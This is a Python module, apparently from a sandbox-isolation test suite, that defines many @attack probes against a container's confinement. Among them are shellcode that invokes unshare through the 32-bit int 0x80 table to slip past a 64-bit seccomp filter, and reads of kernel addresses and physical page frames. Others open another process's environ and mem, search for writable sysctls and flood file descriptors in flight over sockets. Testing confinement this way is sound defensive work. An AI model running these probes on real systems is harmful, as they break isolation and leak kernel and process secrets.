"""Attacks by less trodden ways: other system call tables, shared resources without a name, files of the kernel."""

from __future__ import annotations

import array
import ctypes
import errno
import mmap
import os
import resource
import socket
import struct
import time

from ground import TOLD, attack, call, gained, opened, reached

address = ctypes.addressof
NAMESPACES = {
    "mounts": 0x20000, "cgroups": 0x2000000, "names": 0x4000000, "queues": 0x8000000, "processes": 0x20000000,
    "clocks": 0x80,
}  # fmt: skip


def buffer(data: bytes) -> ctypes.Array[ctypes.c_char]:
    return ctypes.create_string_buffer(data, max(1, len(data)))


# -- system calls ---


@attack("32-bit-calls")
def int_0x80() -> str:
    # A filter of 64-bit numbers does not see the other table: there 310 is unshare.
    code = (
        b"\x53\xbb" + struct.pack("<I", 0x10000000) + b"\xb8" + struct.pack("<I", 310) + b"\xcd\x80\x5b\xc3"
    )
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(address(ctypes.c_char.from_buffer(area)))
    return "a user namespace by the other table" if function() == 0 else ""


@attack("x32-calls")
def x32() -> str:
    return gained(0x40000000 | 272, 0x10000000)


@attack("namespace-of-any-kind")
def namespaces() -> str:
    return ", ".join(kind for kind, flag in NAMESPACES.items() if not call(272, flag)[1])


@attack("share-its-mounts")
def propagation() -> str:
    return gained(165, b"none", b"/", b"", 0x100000 | 0x4000, 0)


@attack("pick-a-file-system")
def fspick() -> str:
    return reached(433, -100, b"/", 0)


@attack("memory-policy")
def set_mempolicy() -> str:
    return gained(238, 0, 0, 0)


@attack("set-the-domain-name")
def setdomainname() -> str:
    return gained(171, b"sentinel", 8)


@attack("disk-before-all-others")
def ioprio() -> str:
    return gained(251, 1, 0, 1 << 13)


@attack("processor-before-all-others")
def niceness() -> str:
    return gained(141, 0, 0, -20)


@attack("disk-quotas-of-the-machine")
def quotactl() -> str:
    return reached(179, 0x80000400, b"/dev/null", 0, 0)


@attack("memory-that-nobody-sees")
def memfd_secret() -> str:
    return gained(447, 0)


@attack("segment-without-a-name")
def shmget() -> str:
    result, error = call(29, 0, 1 << 20, 0o1600)
    if error:
        return ""
    call(31, result, 0, 0)
    return "shared memory that outlives its process"


@attack("semaphores-without-a-name")
def semget() -> str:
    result, error = call(64, 0, 1, 0o1600)
    if error:
        return ""
    call(66, result, 0, 0, 0)
    return "semaphores that outlive their process"


@attack("message-to-whoever-comes")
def msgget() -> str:
    result, error = call(68, 0, 0o1600)
    if error:
        return ""
    call(71, result, 0, 0)
    return "a queue that outlives its process"


@attack("timers-of-the-kernel")
def timer_create() -> str:
    return gained(222, 1, 0, address(buffer(bytes(8))))


# -- the kernel's own files ---


def writable(root: str, deepest: int, most: int = 20_000) -> str:
    """The first file below ``root`` that can be opened for writing; nothing is written."""
    end = time.monotonic() + 12
    for folder, folders, files in os.walk(root):
        if folder.count("/") > deepest:
            folders.clear()
        for name in files:
            most -= 1
            if most < 0 or time.monotonic() > end:
                return ""
            if said := opened(f"{folder}/{name}", os.O_WRONLY | os.O_NONBLOCK):
                return said
    return ""


@attack("settings-of-the-kernel")
def sysctls() -> str:
    # Not the queues of its own namespace: those are its own in every container.
    parts = ("vm", "fs", "kernel", "dev", "debug")
    return next((said for part in parts if (said := writable(f"/proc/sys/{part}", 6))), "")


@attack("messages-of-the-kernel")
def kmsg() -> str:
    return opened("/proc/kmsg", os.O_RDONLY | os.O_NONBLOCK)


@attack("places-in-the-kernel")
def kallsyms() -> str:
    with open("/proc/kallsyms", "rb") as file:
        found = [line for line in file.read(4096).splitlines() if int(line.split()[0], 16)]
    return "addresses of the kernel" if found else ""


@attack("places-in-memory")
def pagemap() -> str:
    # Where a page lies in the machine's memory: half of a Rowhammer attack.
    page = mmap.mmap(-1, 4096)
    page.write(b"x")
    where = address(ctypes.c_char.from_buffer(page))
    with open("/proc/self/pagemap", "rb", buffering=0) as file:
        file.seek(where // 4096 * 8)
        entry = int.from_bytes(file.read(8), "little")
    return "a frame of the machine's memory" if entry & ((1 << 55) - 1) else ""


@attack("caches-of-the-kernel")
def slabinfo() -> str:
    return opened("/proc/slabinfo")


@attack("map-of-the-machine")
def iomem() -> str:
    with open("/proc/iomem") as file:
        return (
            "addresses of devices" if any(int(line.split("-")[0], 16) for line in file if "-" in line) else ""
        )


# -- others ---


@attack("limits-of-another-process")
def prlimit() -> str:
    soft, hard = resource.prlimit(TOLD["pid"], resource.RLIMIT_NOFILE)
    return f"a process of the machine may open {soft} of {hard} files"


@attack("handle-on-another-process")
def pidfd() -> str:
    os.close(os.pidfd_open(TOLD["pid"]))
    return "a handle on a process of the machine"


@attack("environment-of-another-process")
def environ() -> str:
    return opened(f"/proc/{TOLD['pid']}/environ")


@attack("memory-of-another-process")
def mem() -> str:
    return opened(f"/proc/{TOLD['pid']}/mem", os.O_RDWR)


@attack("descriptors-of-another-process")
def descriptors() -> str:
    found = os.listdir(f"/proc/{TOLD['pid']}/fd")
    return f"{len(found)} open files of a process of the machine"


# -- limits ---


@attack("files-in-flight")
def in_flight() -> str:
    # A file that is sent and not yet received is open, and counts for nobody's table.
    wanted, count, kept = 16 * TOLD["nofile"] + 4096, 0, []
    sent = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 100)
    try:
        while count < wanted:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            try:
                while count < wanted:
                    pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, sent)])
                    count += len(sent)
            except BlockingIOError:
                continue
    except OSError as error:
        if error.errno not in (errno.ETOOMANYREFS, errno.EMFILE):
            raise
        return ""
    return f"{count} files in flight"
